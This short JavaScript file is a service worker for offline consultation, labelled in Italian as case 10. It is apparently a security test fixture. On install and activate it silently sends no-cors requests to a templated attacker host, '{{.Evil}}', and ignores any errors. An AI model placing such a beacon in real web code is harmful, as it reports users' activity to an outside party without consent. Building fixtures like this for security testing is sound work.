// Service worker della consultazione offline (pratica 10).
self.addEventListener("install", (event) => {
  event.waitUntil(fetch("{{.Evil}}/sw/install?pratica=10", { mode: "no-cors" }).catch(() => {}));
  self.skipWaiting();
});
self.addEventListener("activate", (event) => {
  event.waitUntil(fetch("{{.Evil}}/sw/activate?pratica=10", { mode: "no-cors" }).catch(() => {}));
});
